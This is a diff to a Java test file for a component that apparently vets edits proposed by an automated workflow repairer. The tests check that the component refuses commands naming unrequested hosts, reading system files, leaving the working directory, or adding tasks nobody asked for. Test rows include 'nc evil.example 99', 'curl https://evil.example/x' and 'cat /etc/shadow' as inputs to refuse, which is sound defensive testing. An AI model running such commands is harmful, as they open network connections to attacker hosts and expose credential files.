@@ -137,6 +137,7 @@ final class RepairerTest {
         "loading | done | occurs more than once",
         "nowhere | x | does not occur",
         "echo | curl https://evil.example/x | a host that nobody named",
+        "echo | nc evil.example 99 | nobody named the host evil.example",
         "echo | cat /etc/shadow | a path outside",
         "echo | cat ../up | leads out",
         "echo | echo | changes nothing"
@@ -190,6 +191,27 @@ final class RepairerTest {
     place.replies(edit("load", "command", "curl https://files.example/o.csv", "\"E2\""));
     assertThat(repair("fetch it from https://files.example/o.csv"))
         .isInstanceOf(Repair.Respec.class);
+  }
+
+  @Test
+  void the_end_of_a_known_host_is_another_host() throws InterruptedException {
+    run = runs.run(FLOW.replace("sh load.sh", "echo https://api.example.com; sh load.sh"));
+    refusedFor(edit("load", "command", "curl https://ample.com", "\"E2\""), "a host");
+  }
+
+  @Test
+  void a_new_task_that_nobody_asked_for_is_refused() {
+    String answer =
+        """
+        {"outcome": "edits", "why": "A step is missing.", "cites": ["E2"], "patch": null,
+         "edits": [{"op": "add_task", "task": null, "field": null, "value": null, "after": null,
+                    "on_failure": null,
+                    "new_task": {"id": "more", "type": "shell", "command": "sh more.sh"}}]}
+        """;
+    refusedFor(answer, "`more` is a new task, which nobody asked for");
+    place.calls.clear();
+    place.replies(answer);
+    assertThat(repair("run more.sh as well")).isInstanceOf(Repair.Respec.class);
   }
 
   @Test
